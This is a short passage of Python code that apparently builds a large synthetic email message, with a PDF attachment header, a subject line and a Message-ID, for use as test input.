              ["Content-Disposition: attachment; filename=\"archive.pdf\""])], f"huge_{seed}")
    headers = (f"Subject: Archive ({size_mb} MB)\r\nMessage-ID: <huge-{size_mb}mb-{seed}@example.org>\r\n")
    return (_H + headers).encode() + body
